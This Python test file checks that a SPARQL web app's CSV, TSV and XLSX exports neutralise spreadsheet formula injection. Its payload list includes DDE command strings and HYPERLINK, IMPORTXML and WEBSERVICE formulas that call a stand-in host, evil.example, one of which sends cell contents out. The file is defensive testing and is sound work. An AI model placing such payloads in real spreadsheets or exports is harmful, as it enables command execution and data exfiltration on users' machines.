"""T20: no cell of a table is calculated by a spreadsheet program; numbers stay readable."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from flask import Flask
from flask.testing import FlaskClient
from rdflib import Literal

from lien.export.rows import inert, to_csv, to_json
from lien.export.spreadsheet import to_xlsx
from lien.settings import Settings
from lien.store import Reader
from lien_webapp.factory import create_app

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"x")',
    '=IMPORTXML("http://evil.example","//a")', "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=@SUM(1)", "=+1", "=-1", "=\t1", "=", "+1+1",
    "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "@SUM(1+1)", "@A1", "\t=1+1",
    "\r=1+1", "\t@SUM(1)", "-=1", "+=1", "+A1", "-A1",
)  # fmt: skip
READABLE = ("-5", "+33", "-0.5", "+33 1 44 96 40 00", "-12,5 %", "0", "1978-10", "a=b", "x@y", "")
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def app(seed_store: Reader) -> Flask:
    return create_app(Settings(), seed_store)


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


def cells(text: str, delimiter: str = ",") -> list[str]:
    """The second line of a table, as a spreadsheet program would split it."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1]


def harmless(cell: str) -> bool:
    """Whether a spreadsheet program takes the cell as a text or a number."""
    return not re.match(r"[=@\t\r]|[+-](?![\d .,]*%?$)", cell)


def question() -> str:
    """A SPARQL question whose answer is the formulas in one line."""
    names = [f"(?v{i} AS ?c{i})" for i in range(len(FORMULAS))]
    bound = " ".join(f"BIND({Literal(text).n3()} AS ?v{i})" for i, text in enumerate(FORMULAS))
    return f"SELECT {' '.join(names)} {{ {bound} }}"


def test_the_cells_are_formulas_before_and_none_after() -> None:
    assert len(set(FORMULAS)) == 25
    assert [text for text in FORMULAS if harmless(text)] == []
    assert [text for text in FORMULAS if not harmless(inert(text))] == []
    assert [text for text in READABLE if inert(text) != text] == []


@pytest.mark.threat("T20")
def test_csv_of_questions_and_lists_is_inert_and_json_is_exact(cases: Any) -> None:
    rows = [{f"c{i}": text for i, text in enumerate(FORMULAS)}]
    shown = cells(to_csv(rows))
    assert shown == [f"'{text}" for text in FORMULAS]
    assert all(map(harmless, shown))
    assert all(text in to_json([{"x": text}]) for text in FORMULAS if text.isalnum())
    cases.tried(2 * len(FORMULAS))


@pytest.mark.threat("T20")
@pytest.mark.parametrize("form", ["csv", "tsv"])
def test_what_the_sparql_page_saves_is_inert(client: FlaskClient, form: str, cases: Any) -> None:
    answer = client.post("/sparql", data={"query": question(), "download": form})
    assert answer.status_code == 200
    assert "attachment" in answer.headers["Content-Disposition"]
    shown = cells(answer.get_data(as_text=True), "," if form == "csv" else "\t")
    assert len(shown) == len(FORMULAS)
    assert [cell for cell in shown if not harmless(cell)] == []
    cases.tried(len(shown))


@pytest.mark.threat("T20")
def test_a_program_gets_the_values_exactly(client: FlaskClient, cases: Any) -> None:
    """What the SPARQL standards say; a program that asks knows what it does with the values."""
    answer = client.post(
        "/sparql", data={"query": question()}, headers={"Accept": "application/sparql-results+json"}
    )
    assert answer.json is not None
    (row,) = answer.json["results"]["bindings"]
    assert [row[f"c{i}"]["value"] for i in range(len(FORMULAS))] == list(FORMULAS)
    cases.tried(len(FORMULAS))


@pytest.mark.threat("T20")
def test_a_workbook_holds_texts_and_numbers_only(client: FlaskClient, cases: Any) -> None:
    names = [f"c{i}" for i in range(len(FORMULAS))]
    saved = client.post("/sparql", data={"query": question(), "download": "xlsx"})
    assert saved.status_code == 200
    for book in (to_xlsx(names, [FORMULAS]), saved.data):
        with zipfile.ZipFile(io.BytesIO(book)) as parts:
            sheets = [name for name in parts.namelist() if "worksheets/" in name]
            pages = [ET.fromstring(parts.read(name)) for name in sheets]  # noqa: S314  our own file
            every = "".join(parts.namelist())
        assert len(sheets) == 1
        assert not any(
            list(page.iter(f"{SHEET}{tag}")) for page in pages for tag in ("f", "hyperlink")
        )
        assert "externalLink" not in every
        assert "vba" not in every
        found = list(pages[0].iter(f"{SHEET}c"))
        assert {cell.get("t") for cell in found} <= {"s", "inlineStr", "str"}
        assert len(found) == 2 * len(FORMULAS)
        cases.tried(len(FORMULAS))
